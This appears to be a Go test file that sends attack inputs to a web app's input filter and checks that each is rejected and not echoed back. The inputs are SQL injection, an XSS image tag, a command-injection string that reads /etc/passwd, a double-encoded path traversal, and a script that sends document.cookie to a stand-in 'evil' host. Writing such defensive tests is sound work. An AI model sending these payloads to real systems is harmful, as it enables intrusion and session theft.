package main

import (
	"bytes"
	"encoding/json"
	"net/url"
	"testing"
)

// TestInputStages drives the schema and inspection stages the way an
// attacker would: payloads in the query, the path and JSON fields, and
// bodies that break their schema. Nothing sent is echoed back.
func TestInputStages(t *testing.T) {
	srv := startApp(t, memStore(t))
	c := newClient(t, srv)
	c.signup("mallory", password)

	attacks := []struct{ name, method, path string }{
		{"sqli in search", "GET", "/api/v1/search?q=" + url.QueryEscape("x' UNION SELECT password FROM users--")},
		{"xss in search", "GET", "/api/v1/search?q=" + url.QueryEscape(`<img src=x onerror=alert(1)>`)},
		{"cmdi in search", "GET", "/api/v1/search?q=" + url.QueryEscape("a; cat /etc/passwd")},
		{"double-encoded traversal", "GET", "/api/v1/notes/%252e%252e%252f%252e%252e%252fetc%252fpasswd"},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			r := c.do(a.method, a.path, nil)
			r.problem(t, 403, "input_rejected")
			for _, s := range []string{"UNION", "onerror", "passwd", "script"} {
				if bytes.Contains(r.body, []byte(s)) {
					t.Fatalf("problem echoes %q: %s", s, r.body)
				}
			}
		})
	}

	// A JSON field carrying script is refused; nothing is created.
	c.do("POST", "/api/v1/notes", map[string]string{"title": "hi", "body": `<script>document.location='//evil/'+document.cookie</script>`}).problem(t, 403, "input_rejected")
	if got := c.listNotes("/api/v1/notes"); len(got) != 0 {
		t.Fatalf("a refused note was stored: %+v", got)
	}

	// Ordinary prose, including words an attack also uses, passes.
	c.must(c.do("POST", "/api/v1/notes", map[string]string{"title": "Select the union reps", "body": "Drop by O'Brien's at 5; bring the /etc notes & a <3 card."}), 201)
	c.must(c.do("GET", "/api/v1/search?q="+url.QueryEscape("O'Brien's"), nil), 200)

	// Passwords are exempt: any characters may be chosen.
	odd := newClient(t, srv)
	odd.signup("oddpass", "' OR 1=1 -- <script>")

	// A body that breaks its schema gets field errors, not its values.
	r := c.do("POST", "/api/v1/notes", `{"title":"t","isAdmin-zz-marker":true,"body":42}`)
	r.problem(t, 400, "invalid_body")
	var p struct {
		Errors []struct{ Pointer, Keyword string } `json:"errors"`
	}
	r.json(t, &p)
	if len(p.Errors) == 0 || bytes.Contains(r.body, []byte("zz-marker")) {
		t.Fatalf("field errors %s", r.body)
	}
	raw, _ := json.Marshal(p.Errors)
	if !bytes.Contains(raw, []byte(`"/body"`)) {
		t.Fatalf("no error for /body in %s", raw)
	}
}
